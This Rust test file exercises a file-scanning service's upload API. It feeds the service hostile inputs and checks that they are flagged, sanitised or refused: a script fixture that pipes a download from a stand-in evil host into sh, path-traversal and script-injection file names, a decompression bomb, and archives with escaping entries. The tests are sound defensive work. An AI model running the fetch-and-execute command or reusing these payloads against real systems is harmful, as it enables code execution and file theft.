//! Uploaded files, hostile ones among them.

use std::io::Write as _;

use axum::body::Body;
use axum::http::Request;
use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::{Value, json};
use touchmark::account::Tier;
use touchmark::config::AccountsConfig;
use touchmark::operations::accounts::work_on_next_scan;
use touchmark::store::{LeaseTerms, ScanEnd, ScanStatus, Scans};

use super::scan_access::upload;
use super::service::Service;

fn tar(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = tar::Builder::new(Vec::new());
    for (path, bytes) in entries {
        let mut header = tar::Header::new_ustar();
        // Names that no archiver writes are written as they are.
        header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        archive.append(&header, *bytes).expect("an entry");
    }
    archive.into_inner().expect("an archive")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).expect("written");
    encoder.finish().expect("packed")
}

async fn shown(service: &Service, token: &str, id: &Value) -> Value {
    service.get(&format!("/api/scans/{}", id.as_str().expect("an id")), Some(token)).await.body
}

async fn work(service: &Service) {
    while work_on_next_scan(&service.services, "test").await.expect("it is worked on") {}
}

#[tokio::test]
async fn a_file_is_scanned_and_shown_as_the_document_says() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Pro).await;
    let bytes = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n";
    let form = [
        b"--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\"install.sh\"\r\n\r\n".as_slice(),
        bytes,
        b"\r\n--b0--\r\n",
    ]
    .concat();
    let request = Request::post("/api/scans")
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "multipart/form-data; boundary=b0")
        .body(Body::from(form))
        .expect("a request");
    let queued = service.send(request).await;
    assert_eq!((queued.status, &queued.body["status"]), (202, &json!("queued")), "{}", queued.body);
    for unknown in
        ["threatScore", "severity", "riskCategory", "confidence", "securityIssuesCount", "sensitiveDataCount"]
    {
        assert_eq!(queued.body.get(unknown), Some(&Value::Null), "{unknown} is there and not known");
    }
    assert!(queued.header("x-ratelimit-limit").is_some());
    work(&service).await;
    let scan = shown(&service, &token, &queued.body["scanId"]).await;
    let id = uuid::Uuid::parse_str(scan["scanId"].as_str().expect("an id")).expect("a UUID");
    assert_eq!(id.get_version_num(), 4);
    assert_eq!((&scan["fileName"], &scan["status"]), (&json!("install.sh"), &json!("completed")), "{scan}");
    assert_eq!(scan["fileHash"].as_str(), Some(&*touchmark::skill::Sha256Digest::of(bytes).to_hex()));
    assert_eq!(scan["uploadedBy"], "dev@example.com");
    assert_eq!(scan["createdAt"].as_str().map(str::len), Some("2026-02-14 12:34:56".len()));
    assert!(scan["threatScore"].as_f64().is_some_and(|score| score > 0.0 && score <= 1.0), "{scan}");
    assert!(["medium", "high", "critical"].contains(&scan["severity"].as_str().expect("a severity")), "{scan}");
    assert_ne!(scan["riskCategory"], "safe");
    assert!(scan["securityIssuesCount"].as_u64().is_some_and(|count| count > 0), "{scan}");
    assert_eq!(scan["confidence"], Value::Null);
    assert_eq!(scan["detectionClass"][0], "script");
    assert!(scan["phases"].is_object());
}

#[tokio::test]
async fn names_of_files_are_hostile() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Team).await;
    let long = "x".repeat(5_000);
    let rows = [
        ("..%2F..%2Fetc%2Fpasswd", "passwd"),
        ("..%5C..%5Cwindows%5Cwin.ini", "win.ini"),
        ("%2Fetc%2Fshadow", "shadow"),
        ("..", "unnamed"),
        ("", "unnamed"),
        ("nul%00byte.txt", ""),
        ("new%0D%0Aline.txt", ""),
        ("%1B%5B2Jclear.txt", ""),
        ("%E2%80%AEgpj.exe", ""),
        (&*long, ""),
        ("%FF%FE", "unnamed"),
        ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", ""),
    ];
    for (name, expected) in rows {
        let answer = upload(&service, Some(&token), name, b"hello\n").await;
        assert_eq!(answer.status, 202, "{name}: {}", answer.body);
        let shown = answer.body["fileName"].as_str().expect("a name").to_owned();
        if !expected.is_empty() {
            assert_eq!(shown, expected, "{name}");
        }
        let is_harmless = |character: char| !character.is_control() && !"\u{202e}/\\".contains(character);
        assert!(shown.chars().count() <= 255 && !shown.is_empty(), "{name}: {shown}");
        assert!(shown.replace("\\u{", "").chars().all(is_harmless), "{name}: {shown}");
        work(&service).await;
        let scan = self::shown(&service, &token, &answer.body["scanId"]).await;
        let read = (&scan["status"], &scan["isComplete"]);
        assert_eq!(read, (&json!("completed"), &json!(true)), "no name keeps a file from being read: {name}: {scan}");
    }
}

#[tokio::test]
async fn archives_are_hostile() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Team).await;
    let skill = b"---\nname: demo\ndescription: Does it.\n---\n# Demo\n".as_slice();
    let bomb = gzip(&tar(&[("zeros", &vec![0; 48 * 1024 * 1024])]));
    assert!(bomb.len() < 100_000);
    let rows: Vec<(&str, Vec<u8>, &str, &str)> = vec![
        ("skill.tar.gz", gzip(&tar(&[("demo/SKILL.md", skill)])), "completed", "skill"),
        ("files.tar", tar(&[("a.txt", b"a"), ("b/c.txt", b"c")]), "completed", "archive"),
        ("bomb.tar.gz", bomb, "failed", ""),
        ("up.tar", tar(&[("../evil", b"x")]), "failed", ""),
        ("root.tar", tar(&[("/etc/passwd", b"x")]), "failed", ""),
        ("case.tar", tar(&[("A", b"x"), ("a", b"y")]), "failed", ""),
        ("cut.tar.gz", gzip(&tar(&[("a", &[7; 5_000])]))[..60].to_vec(), "failed", ""),
        ("cut.zip", b"PK\x03\x04 and nothing more".to_vec(), "failed", ""),
        ("none.zip", b"this is no archive".to_vec(), "completed", "file"),
        ("other.7z", b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), "unsupported", ""),
        ("other.rar", b"Rar!\x1a\x07\x01\0".to_vec(), "unsupported", ""),
    ];
    for (name, bytes, status, class) in rows {
        let answer = upload(&service, Some(&token), name, &bytes).await;
        assert_eq!(answer.status, 202, "{name}: {}", answer.body);
        work(&service).await;
        let scan = shown(&service, &token, &answer.body["scanId"]).await;
        assert_eq!(scan["status"], status, "{name}: {scan}");
        if class.is_empty() {
            assert!(scan["reason"].as_str().is_some_and(|reason| !reason.is_empty()), "{name}: {scan}");
            assert_eq!(scan["riskCategory"], Value::Null, "{name}: what was not scanned is not safe");
        } else {
            assert_eq!(scan["detectionClass"][0], class, "{name}: {scan}");
        }
    }
}

#[tokio::test]
async fn bodies_that_are_no_file_are_refused() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Pro).await;
    let form = "multipart/form-data; boundary=b0";
    let rows: Vec<(&str, Vec<u8>, u16)> = vec![
        ("application/octet-stream", Vec::new(), 422),
        (form, Vec::new(), 422),
        (form, b"--b0--\r\n".to_vec(), 422),
        (form, b"--b0\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n\r\n--b0--\r\n".to_vec(), 422),
        ("multipart/form-data", b"--b0--".to_vec(), 422),
        ("application/octet-stream", vec![b'x'; 17 * 1024 * 1024], 413),
    ];
    for (kind, bytes, status) in rows {
        let request = Request::post("/api/scans")
            .header("authorization", format!("Bearer {token}"))
            .header("content-type", kind)
            .body(Body::from(bytes))
            .expect("a request");
        let answer = service.send(request).await;
        assert_eq!(answer.status, status, "{kind}: {}", answer.body);
        assert!(answer.body["error"]["message"].is_string(), "{}", answer.body);
    }
    assert_eq!(service.get("/api/scans", Some(&token)).await.body["total"], 0);
}

#[tokio::test]
async fn lists_are_paged_by_offset_and_filtered() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Team).await;
    for number in 0..7 {
        let name = if number < 2 { "Report.txt" } else { "notes.md" };
        assert_eq!(upload(&service, Some(&token), name, format!("{number}\n").as_bytes()).await.status, 202);
        if number == 4 {
            work(&service).await;
        }
    }
    let names = |body: &Value| body["scans"].as_array().expect("a list").len();
    let rows = [
        ("", 7, 7),
        ("?limit=3", 3, 7),
        ("?limit=3&offset=6", 1, 7),
        ("?limit=3&offset=7", 0, 7),
        ("?limit=3&offset=18446744073709551615", 0, 7),
        ("?status=completed", 5, 5),
        ("?status=queued&limit=1", 1, 2),
        ("?status=pending", 0, 0),
        ("?search=report", 2, 2),
        ("?search=REPORT&status=queued", 0, 0),
        ("?search=%25", 0, 0),
    ];
    for (query, shown, total) in rows {
        let answer = service.get(&format!("/api/scans{query}"), Some(&token)).await;
        assert_eq!((names(&answer.body), &answer.body["total"]), (shown, &json!(total)), "{query}: {}", answer.body);
    }
    let (mut seen, mut offset) = (Vec::new(), 0);
    while offset < 7 {
        let page = service.get(&format!("/api/scans?limit=2&offset={offset}"), Some(&token)).await.body;
        seen.extend(page["scans"].as_array().expect("a list").iter().map(|scan| scan["scanId"].clone()));
        offset += 2;
    }
    let whole = service.get("/api/scans?limit=100", Some(&token)).await.body;
    let whole: Vec<Value> =
        whole["scans"].as_array().expect("a list").iter().map(|scan| scan["scanId"].clone()).collect();
    assert_eq!(seen, whole, "pages from either end are in one order");
    for query in ["?limit=0", "?limit=1000", "?limit=x", "?offset=-1", "?status=done", "?limit=1&limit=2"] {
        let answer = service.get(&format!("/api/scans{query}"), Some(&token)).await;
        assert!([400, 422].contains(&answer.status), "{query}: {}", answer.body);
    }
}

#[tokio::test]
async fn a_deleted_scan_leaves_nothing_behind_and_work_on_it_ends() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Pro).await;
    let secret = b"a text that nobody else has written: 0f9c1e5b";
    let queued = upload(&service, Some(&token), "private.txt", secret).await;
    let path = format!("/api/scans/{}", queued.body["scanId"].as_str().expect("an id"));
    let store = service.store().await;
    let now = service.services.now();
    let later = touchmark::skill::Timestamp::from_milliseconds(now.as_milliseconds() + 60_000);
    let terms = LeaseTerms { now, until: later, loss_limit: 3 };
    let leased = store.lease_scan("worker", terms, 2).await.expect("asked").expect("a scan");
    assert_eq!(leased.file.as_deref(), Some(secret.as_slice()));
    let deleted = service.delete(&path, Some(&token)).await;
    let expected = json!({
        "success": true,
        "message": "Scan deleted successfully",
        "scanId": queued.body["scanId"],
    });
    assert_eq!((deleted.status, &deleted.body), (200, &expected));
    let end = ScanEnd::Without { status: ScanStatus::Failed, reason: "x".to_owned() };
    assert!(!store.extend_scan(&leased.lease, Some(ScanStatus::Processing), later, now).await.expect("asked"));
    assert!(!store.finish_scan(&leased.lease, &end, now).await.expect("asked"));
    assert_eq!(service.get(&path, Some(&token)).await.status, 404);
    assert_eq!(service.delete(&path, Some(&token)).await.status, 404);
    assert_eq!(service.get("/api/scans", Some(&token)).await.body["total"], 0);
    store.close().await;
    let log = service.audit().await;
    assert!(log.iter().any(|entry| entry.action == "scan.delete"));
    assert!(!format!("{log:?}").contains("private.txt"));
    assert!(!service.database_holds(secret).await, "nothing of the file is left in the database");
}

#[tokio::test]
async fn a_scan_whose_worker_vanishes_is_done_by_another_one_and_given_up_in_the_end() {
    let service = Service::start(Some(AccountsConfig::Closed)).await;
    let token = service.token("dev@example.com", Tier::Pro).await;
    for name in ["a.txt", "b.txt", "c.txt"] {
        assert_eq!(upload(&service, Some(&token), name, b"hello").await.status, 202);
    }
    let store = service.store().await;
    let now = service.services.now().as_milliseconds();
    let at = |seconds: i64| touchmark::skill::Timestamp::from_milliseconds(now + seconds * 1_000);
    let terms = |seconds: i64| LeaseTerms { now: at(seconds), until: at(seconds + 60), loss_limit: 3 };
    let first = store.lease_scan("one", terms(0), 2).await.expect("asked").expect("a scan");
    assert!(store.lease_scan("two", terms(0), 2).await.expect("asked").is_some());
    assert_eq!(store.lease_scan("three", terms(0), 2).await.expect("asked"), None, "two of one account at once");
    let again = store.lease_scan("two", terms(60), 2).await.expect("asked").expect("a scan");
    assert_eq!(again.target, first.target);
    let end = ScanEnd::Without { status: ScanStatus::Failed, reason: "late".to_owned() };
    assert!(!store.finish_scan(&first.lease, &end, at(61)).await.expect("asked"), "the lease was lost");
    assert!(store.lease_scan("two", terms(120), 1).await.expect("asked").is_some());
    // The third loss of the first file gives it up, and its bytes are forgotten.
    store.lease_scan("two", terms(180), 1).await.expect("asked");
    store.lease_scan("two", terms(240), 1).await.expect("asked");
    let list = service.get("/api/scans?status=error", Some(&token)).await.body;
    assert_eq!(list["scans"][0]["fileName"], "a.txt", "{list}");
}
